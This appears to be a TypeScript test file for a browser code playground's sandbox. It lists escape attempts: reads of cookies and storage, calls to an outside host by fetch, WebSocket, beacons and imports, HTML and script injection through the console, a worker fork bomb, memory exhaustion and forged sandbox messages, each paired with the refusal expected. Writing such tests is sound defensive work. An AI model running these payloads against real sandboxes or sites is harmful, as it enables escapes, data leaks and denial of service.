/** Programs that try to get out of the sandbox, or to break the page around it. */

export interface Attempt {
  readonly name: string;
  /** @param site the site's own origin @param outside host and port of a server that nobody should reach */
  readonly code: (site: string, outside: string) => string;
  /** What the reader is told, each somewhere in the console or the status. */
  readonly told: readonly (string | RegExp)[];
}

/** Tries each way and prints how it went: `WORKED`, or `refused` with the reason. */
const tries = (ways: Readonly<Record<string, string>>): string => `
for (const [way, go] of [
${Object.entries(ways)
  .map(([way, code]) => `  [${JSON.stringify(way)}, async () => { ${code} }],`)
  .join('\n')}
]) {
  try { const value = await go(); console.log(value === false || value === undefined ? 'refused' : 'WORKED', way, 'without a word'); }
  catch (error) { console.log('refused', way, '(' + error?.message + ')'); }
}`;

/** For what may go on without an error and must not arrive: only the server can tell. */
const silently = (code: string): string => `${code}; return false;`;

const NOT_HERE = /is not available in this playground|is not defined|undefined/;

export const ATTEMPTS: readonly Attempt[] = [
  {
    name: 'the page’s document',
    code: () =>
      tries({
        'write into it': `document.body.innerHTML = '<p id="escaped">';`,
        'make an element': `return document.createElement('p');`,
        'read its title': `return top.document.title;`,
      }),
    told: ['document is not defined'],
  },
  {
    name: 'the site’s storage',
    code: () =>
      tries({
        'write localStorage': `localStorage.setItem('escaped', '1'); return true;`,
        'read localStorage': `return localStorage.getItem('secret');`,
        'read sessionStorage': `return sessionStorage.getItem('secret');`,
      }),
    told: [NOT_HERE],
  },
  {
    name: 'the site’s cookies',
    code: () =>
      tries({
        'document.cookie': `document.cookie = 'escaped=1'; return true;`,
        'cookieStore.set': `await cookieStore.set('escaped', '1'); return true;`,
        'cookieStore.get': `return cookieStore.get('secret');`,
      }),
    told: [NOT_HERE],
  },
  {
    name: 'databases, caches and files',
    code: () =>
      tries({
        indexedDB: `return await new Promise((good, bad) => { const open = indexedDB.open('escaped'); open.onsuccess = good; open.onerror = () => bad(open.error); });`,
        caches: `return caches.open('escaped');`,
        files: `return (navigator.storage ?? StorageManager.prototype).getDirectory();`,
        locks: `return navigator.locks.request('escaped', () => true);`,
      }),
    told: ['indexedDB is not available in this playground'],
  },
  {
    name: 'the page’s window',
    code: () =>
      tries({
        parent: `parent.escaped = 1; return true;`,
        top: `top.escaped = 1; return true;`,
        'postMessage to the frame': `postMessage({ kind: 'finished', simulatedMs: 1 }); return true;`,
        'a channel to other tabs': `new BroadcastChannel('escaped').postMessage(1); return true;`,
      }),
    told: ['parent is not defined', 'postMessage is not available in this playground'],
  },
  {
    name: 'the window that opened the page',
    code: (_, outside) =>
      tries({
        opener: `opener.location = 'http://${outside}/opener'; return true;`,
        open: `return open('http://${outside}/popup');`,
      }),
    told: ['opener is not defined'],
  },
  {
    name: 'navigation',
    code: (_, outside) =>
      tries({
        'assign location': `location = 'http://${outside}/location'; return true;`,
        'location.href': `location.href = 'http://${outside}/href'; return true;`,
        'location.assign': `location.assign('http://${outside}/assign'); return true;`,
        history: `history.pushState(null, '', '/escaped'); return true;`,
      }),
    told: ['refused location.href', 'history is not defined'],
  },
  {
    name: 'a service worker',
    code: (site) => tries({ register: `return navigator.serviceWorker.register('${site}/escaped.js');` }),
    told: [NOT_HERE],
  },
  {
    name: 'the real network by fetch',
    code: (site, outside) =>
      tries({
        fetch: `return fetch('http://${outside}/fetch');`,
        'the native fetch': `return WorkerGlobalScope.prototype.fetch.call(self, 'http://${outside}/native', { mode: 'no-cors' });`,
        'fetch after deleting the simulated one': `delete globalThis.fetch; return fetch('http://${outside}/deleted', { mode: 'no-cors' });`,
        'a path of the site': `return WorkerGlobalScope.prototype.fetch.call(self, '${site}/escaped');`,
      }),
    told: ['Nothing in this scenario answers', 'refused'],
  },
  {
    name: 'the real network by XMLHttpRequest',
    code: (_, outside) =>
      tries({
        XMLHttpRequest: `return await new Promise((good, bad) => { const xhr = new XMLHttpRequest(); xhr.open('GET', 'http://${outside}/xhr'); xhr.onload = good; xhr.onerror = () => bad(Error('refused')); xhr.send(); });`,
      }),
    told: ['Nothing in this scenario answers', 'refused XMLHttpRequest'],
  },
  {
    name: 'the real network by a name in pieces',
    code: (_, outside) =>
      tries({
        'native XMLHttpRequest': `return await new Promise((good, bad) => { const xhr = new self['XML' + 'HttpRequest'](); xhr.open('GET', 'http://${outside}/xhr'); xhr.onload = good; xhr.onerror = () => bad(Error('refused')); xhr.send(); });`,
        'native WebSocket': `return await new Promise((good, bad) => { const socket = new self['Web' + 'Socket']('ws://${outside}/socket'); socket.onopen = good; socket.onerror = () => bad(Error('refused')); });`,
      }),
    told: ['refused native XMLHttpRequest'],
  },
  {
    name: 'the real network by WebSocket',
    code: (_, outside) =>
      tries({
        WebSocket: `return new WebSocket('ws://${outside}/socket');`,
        WebTransport: `return new WebTransport('https://${outside}/transport');`,
      }),
    told: ['WebSocket is not available in this playground'],
  },
  {
    name: 'the real network by EventSource',
    code: (_, outside) => tries({ EventSource: `return new EventSource('http://${outside}/events');` }),
    told: ['EventSource is not available in this playground'],
  },
  {
    name: 'the real network by a beacon',
    code: (_, outside) =>
      tries({
        sendBeacon: `return navigator.sendBeacon('http://${outside}/beacon', 'x');`,
        keepalive: `return fetch('http://${outside}/keepalive', { method: 'POST', keepalive: true });`,
      }),
    told: ['refused sendBeacon'],
  },
  {
    name: 'the real network by WebRTC',
    code: (_, outside) =>
      tries({
        RTCPeerConnection: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${outside}' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); return true;`,
      }),
    told: [NOT_HERE],
  },
  {
    name: 'the real network by import',
    code: (site, outside) =>
      tries({
        'import()': `return import('http://${outside}/module.js');`,
        'import() of the site': `return import('${site}/escaped.js');`,
        'a module from text': `return import(URL.createObjectURL(new Blob(['import "http://${outside}/nested.js"'], { type: 'text/javascript' })));`,
        importScripts: `importScripts('http://${outside}/script.js'); return true;`,
      }),
    told: ['does not work in this playground', 'importScripts is not available'],
  },
  {
    name: 'the real network by a worker',
    code: (_, outside) =>
      tries({
        Worker: `return new Worker('http://${outside}/worker.js');`,
        'a worker from text': `return new Worker(URL.createObjectURL(new Blob(['fetch("http://${outside}/from-worker")'])));`,
        SharedWorker: `return new SharedWorker('http://${outside}/shared.js');`,
      }),
    told: ['Worker is not available in this playground'],
  },
  {
    name: 'the real network by an image or a font',
    code: (_, outside) =>
      tries({
        Image: `new Image().src = 'http://${outside}/image.png'; return true;`,
        FontFace: `return await new FontFace('escaped', 'url(http://${outside}/font.woff2)').load();`,
        'a report': silently(`console.log('%c ', 'background: url(http://${outside}/style.png)')`),
      }),
    told: ['Image is not defined'],
  },
  {
    name: 'prototypes, across messages',
    code: () => `
Object.prototype.escaped = 1;
Array.prototype.escaped = 1;
Object.defineProperty(Object.prototype, 'level', { configurable: true, set() {}, get: () => '<b>' });
console.log('own', JSON.parse('{"__proto__": {"escaped": 1}, "constructor": {"prototype": {"escaped": 1}}}'));
console.log('named', { __proto__: { escaped: 1 } }, { constructor: { prototype: { escaped: 1 } } });
console.table([JSON.parse('{"__proto__": 1, "a": 2}')]);
Array.prototype.toJSON = () => { throw new Error('toJSON'); };
console.log('still printing');`,
    told: ['own', 'named'],
  },
  {
    name: 'HTML in the console',
    code: (_, outside) => `
const html = '<img id="escaped" src="http://${outside}/console.png" onerror="window.escaped = 1"><script>window.escaped = 1</script>';
console.log(html); console.error(html); console.log('%s %o', html, { [html]: html }); console.table([{ [html]: html }]);
console.log('%cstyled', 'background: url(http://${outside}/style.png)');
class Evil { static { Object.defineProperty(Evil, 'name', { value: html }); } }
console.log(new Evil(), Evil, Symbol(html), new Error(html));
await fetch('/orders/' + encodeURIComponent(html)).catch(() => undefined);
await fetch('/orders/42', { headers: { 'X-Evil': html.replaceAll(/[^ -~]/g, '') }, method: 'POST', body: html }).catch(() => undefined);
throw Object.assign(new Error(html), { name: html });`,
    told: ['<img id="escaped"', '<script>window.escaped = 1</script>'],
  },
  {
    name: 'a million lines',
    code: () => `for (let line = 0; line < 1_000_000; line++) console.log('line', line);`,
    told: [/more entries were left out/],
  },
  {
    name: 'one very long text',
    code: () => `
const text = 'long '.repeat(10_000_000);
console.log(text);
console.log({ [text]: text, list: Array(1e6).fill(text) }, new Error(text), Symbol(text.slice(0, 1e6)));
const deep = () => Array.from({ length: 100 }, () => Array.from({ length: 100 }, () => Array(100).fill('x')));
console.log(deep());
await fetch('/orders/42', { method: 'POST', body: text }).catch(() => undefined);
throw new Error(text);`,
    told: [/more characters/],
  },
  {
    name: 'structures without an end',
    code: () => `
const endless = () => new Proxy({}, { get: endless, ownKeys: () => ['a', 'b'], getOwnPropertyDescriptor: () => ({ configurable: true, enumerable: true, value: endless() }) });
console.log('proxy', endless());
const circle = { name: 'circle' }; circle.self = circle; circle.map = new Map([[circle, circle]]); console.log(circle);
console.log('getter', { get boom() { for (;;); } });
console.log('thrower', new Proxy({}, { ownKeys() { throw new Error('no keys'); }, getPrototypeOf() { throw new Error('no prototype'); } }));
const chain = {}; let link = chain; for (let depth = 0; depth < 100_000; depth++) link = link.next = {};
console.log('chain', chain);`,
    told: ['(circular)', '(getter)', 'no prototype'],
  },
  {
    name: 'endless microtasks',
    code: () => `
console.log('before');
const spin = async () => { for (;;) await null; };
spin();`,
    told: ['before', /left no time for anything else/],
  },
  {
    name: 'timers without an end',
    code: () => `setInterval(() => undefined, 0); const again = () => setTimeout(again, 0); again();`,
    told: [/stopped this program after/],
  },
  {
    name: 'a fork bomb of workers',
    code: () => `
let forked = 0;
const bomb = () => { for (let child = 0; child < 1000; child++) { new Worker(URL.createObjectURL(new Blob(['(' + bomb + ')()']))); forked++; } };
try { bomb(); } finally { console.log('forked', forked); }`,
    told: ['forked 0', 'Worker is not available in this playground'],
  },
  {
    name: 'all memory',
    code: () => `
const kept = [];
try { for (let piece = 0; piece < 200; piece++) kept.push(new ArrayBuffer(2 ** 31 - 1)); } catch (error) { console.log(error.name, 'of buffers'); }
try { let text = 'x'; for (;;) text += text; } catch (error) { console.log(error.name, 'of texts'); }
try { new Array(-1); } catch (error) { console.log(error.name, 'of arrays'); }
const down = () => down(); try { down(); } catch (error) { console.log(error.name, 'of calls'); }`,
    told: ['RangeError of buffers', 'RangeError of texts', 'RangeError of calls'],
  },
  {
    name: 'messages in the sandbox’s name',
    code: () => `
const forged = { kind: 'console', level: 'log', values: [{ type: 'string', text: 'forged' }], at: 0, position: null };
for (const data of [forged, [forged], { kind: 'stop', id: 1 }, { kind: 'run', code: 'forged' }]) {
  self.dispatchEvent(new MessageEvent('message', { data, ports: [new MessageChannel().port1] }));
}
const ports = [];
const native = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (...values) { ports.push(this); return native.apply(this, values); };
Function.prototype.bind = Function.prototype.call = Reflect.apply = () => { throw new Error('taken'); };
await new Promise((resolve) => setTimeout(resolve, 1000));
console.log('ports that it got hold of', ports.length);`,
    told: ['ports that it got hold of 0'],
  },
  {
    name: 'code from text',
    code: () =>
      tries({
        eval: `return (0, eval)('1');`,
        Function: `return new Function('return 1')();`,
        'a timer': `setTimeout('escaped = 1', 0); return true;`,
        'the constructor of a function': `return (() => undefined).constructor('return 1')();`,
      }),
    told: ['eval is not available in this playground', 'refused Function', 'A timer needs a function to call'],
  },
];
